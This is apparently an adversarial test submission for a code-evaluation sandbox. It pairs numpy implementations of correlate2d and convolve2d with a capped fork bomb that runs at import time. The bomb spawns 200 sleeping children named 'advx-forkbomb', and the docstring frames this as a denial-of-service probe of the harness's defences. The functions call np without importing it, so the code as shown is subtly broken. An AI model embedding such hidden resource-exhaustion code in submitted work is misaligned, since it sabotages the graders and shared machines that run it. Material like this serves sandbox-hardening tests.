"""Denial of service: forks until it has 200 children (the submission's own cap), each named
advx-forkbomb and sleeping 15 minutes, so a failed defence shows as processes left running rather than
a hung machine. The correct functions come after the fork loop."""

# %% correlate2d
def _name_process(name):
    """Set this process's name (/proc/<pid>/comm) so a leftover one can be recognised."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)   # PR_SET_NAME
    except Exception:
        pass


import os
import time

_children = 0
while _children < 200:
    if os.fork() == 0:
        try:   # the child never returns to the kernel's code, whatever happens
            _name_process("advx-forkbomb")
            time.sleep(900)
        finally:
            os._exit(0)
    _children += 1
print("forked", _children, "children")


def correlate2d(in1, in2, mode="full"):
    x, k = np.asarray(in1), np.asarray(in2)
    (H, W), (kH, kW) = x.shape, k.shape
    dtype = np.result_type(x, k)
    padded = np.pad(x.astype(dtype), ((kH - 1, kH - 1), (kW - 1, kW - 1)))
    full = np.zeros((H + kH - 1, W + kW - 1), dtype=dtype)
    for m in range(kH):
        for n in range(kW):
            full += k[m, n] * padded[m:m + H + kH - 1, n:n + W + kW - 1]
    if mode == "same":
        return full[kH // 2:kH // 2 + H, kW // 2:kW // 2 + W]
    if mode == "valid":
        return full[kH - 1:H, kW - 1:W]
    return full

# %% convolve2d
def convolve2d(in1, in2, mode="full"):
    k = np.asarray(in2)
    (H, W), (kH, kW) = np.shape(in1), k.shape
    full = correlate2d(in1, k[::-1, ::-1])
    if mode == "same":
        return full[(kH - 1) // 2:(kH - 1) // 2 + H, (kW - 1) // 2:(kW - 1) // 2 + W]
    if mode == "valid":
        return full[kH - 1:H, kW - 1:W]
    return full
